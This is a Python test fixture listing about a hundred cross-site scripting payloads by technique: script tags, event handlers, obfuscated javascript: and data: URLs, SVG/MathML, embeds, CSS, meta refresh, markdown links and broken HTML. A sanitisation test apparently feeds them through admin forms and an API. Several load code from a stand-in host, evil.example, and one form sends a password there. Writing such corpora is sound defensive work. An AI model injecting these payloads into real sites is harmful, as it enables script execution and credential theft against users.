"""Payloads that try to make a page run script: what an attacker, or a careless paste, puts into a text field.

Grouped by technique. Every one goes through the admin's forms and the management API into every text field
(tests/core/test_xss_corpus.py); nothing executable may come out in any response.
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<script/xss src=https://evil.example/x.js></script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    '<p onclick="steal()">hello</p>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<a href=https://example.org onmouseover=alert(1)>link</a>",
    "<img/src=x/onerror=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
]
DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="javascript:alert(1)">',
    '<img src="jav&#x0A;ascript:alert(1)">',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="mocha:alert(1)">x</a>',
]
SVG_AND_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
]
EMBEDDING = [
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="https://evil.example/x.swf">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="Evil.class"></applet>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="https://evil.example/x.html">',
]
STYLE = [
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><ul><li>x</li></ul>',
]
META_AND_FORMS = [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta charset="x-imap4-modified-utf7">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<input type="image" src="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type=submit>',
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<keygen autofocus onfocus=alert(1)>",
]
MARKDOWN = [
    "[click me](javascript:alert(1))",
    "[click me](JAVASCRIPT:alert(1))",
    "[click me](javascript&#58;alert(1))",
    "[click me]( javascript:alert(1) )",
    "[click me](vbscript:msgbox(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](javascript:alert(1))",
    "![image](data:image/svg+xml,<svg onload=alert(1)>)",
    '![a" onerror="alert(1)](https://example.org/a.png)',
    '[x](https://example.org "title" onclick=alert(1))',
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
]
RAW_AND_BROKEN_HTML = [
    "<div>\n<script>alert(1)</script>\n</div>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)'",
    "<script>alert(1)",
    "<p <script>alert(1)</script>>",
    '<img """><script>alert(1)</script>">',
    "<div><p>unclosed <b>bold <i>italic <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "<template><script>alert(1)</script></template>",
]

PAYLOADS = (
    SCRIPT_TAGS + EVENT_HANDLERS + DANGEROUS_URLS + SVG_AND_MATHML + EMBEDDING + STYLE + META_AND_FORMS + MARKDOWN
    + RAW_AND_BROKEN_HTML
)  # fmt: skip
